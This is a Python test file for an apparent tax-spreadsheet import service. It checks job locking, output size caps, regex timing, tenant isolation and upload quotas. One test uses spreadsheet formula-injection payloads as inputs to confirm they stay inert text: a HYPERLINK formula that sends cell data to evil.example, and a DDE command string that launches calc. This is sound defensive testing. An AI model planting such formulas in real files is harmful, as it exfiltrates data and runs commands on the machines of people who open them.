"""Files of lists that were made to harm whoever reads them, and members who upload many."""

import time
from io import BytesIO
from zipfile import ZipFile

import pytest
from hometax_world import again, looked, row, upload, workspace_of_list
from service_world import NOW, make_workspace, member_client

from dojang.service import workbooks
from dojang.service.hometax import deferring, findings_sheet, importing, looking, reading
from dojang.service.hometax.errors import TooManyLists
from dojang.service.hometax.models import ListState
from dojang.service.tenancy.scope import in_workspace

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"확인")'


@pytest.fixture
def ours():
    return workspace_of_list()


def test_lists_are_read_one_after_the_other_however_many_are_uploaded(ours):
    from procrastinate.contrib.django.models import ProcrastinateJob

    with in_workspace(ours.pk):
        for number in range(6):
            deferring.read_list(ours.pk, number)
            deferring.take_list(ours.pk, number)
    locks = ProcrastinateJob.objects.filter(task_name__contains="hometax_list").values_list("lock", flat=True)
    assert len(locks) == 12
    assert len(set(locks)) == 1
    assert None not in locks


def test_one_long_text_in_each_cell_does_not_become_gigabytes_of_ours(ours, monkeypatch):
    written = []
    monkeypatch.setattr(reading, "_MOST_WRITTEN", 50_000)

    class Sheet:
        start = (0, 0)

        def iter_rows(self):
            return [["삼" * 900] * 10] * 100

    class Book:
        sheet_names = ("a",)

        def get_sheet_by_index(self, _):
            return Sheet()

    class Out:
        def write(self, line):
            written.append(len(line))

    with pytest.raises(workbooks.TooLarge):
        reading._write(Book(), Out())
    assert sum(written) <= 50_000


def test_text_that_looks_like_a_formula_stays_text_in_the_findings(ours):
    found = looked(ours, row(1, 세액="만원", 품목명=FORMULA, 비고="+cmd|' /C calc'!A0"))
    with in_workspace(ours.pk), findings_sheet.write(found) as file:
        data = file.read()
    with ZipFile(BytesIO(data)) as archive:
        parts = {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "HYPERLINK" in sheet + parts.get("xl/sharedStrings.xml", "")
    assert "<f>" not in sheet
    assert not any("evil.example" in text for name, text in parts.items() if name.endswith(".rels"))


def test_hiding_numbers_of_persons_takes_no_time_in_a_text_of_blanks():
    hostile = ("900101" + " " * 300) * 3
    began = time.process_time()
    for _ in range(2000):
        assert findings_sheet._PERSON.sub("", hostile) == hostile
    assert time.process_time() - began < 1
    assert findings_sheet._PERSON.sub("", "900101 - 1234567") == ""


def test_another_workspace_finds_neither_a_list_nor_its_rows(ours):
    found = looked(ours, row(1, 세액="만원"))
    stranger = make_workspace(name="남의상사")
    browser = member_client(stranger)
    for path in ("", "state/", "sheet/"):
        assert browser.get(f"/w/{stranger.slug}/hometax/lists/{found.pk}/{path}").status_code == 404
        assert browser.get(f"/w/{ours.slug}/hometax/lists/{found.pk}/{path}").status_code in {403, 404}
    for path in ("take/", "drop/", "close/"):
        answer = browser.post(f"/w/{stranger.slug}/hometax/lists/{found.pk}/{path}", {"row": 1})
        assert answer.status_code == 404
    assert again(ours, found).state == ListState.LOOKED


def test_one_workspace_does_not_fill_the_queue_that_all_wait_in(ours, monkeypatch):
    monkeypatch.setattr(importing, "MOST_AT_ONCE", 2)
    first, _ = upload(ours, row(1)), upload(ours, row(2))
    with pytest.raises(TooManyLists):
        upload(ours, row(3))
    looking.read_list(ours.pk, first.pk, clock=lambda: NOW)
    upload(ours, row(3))
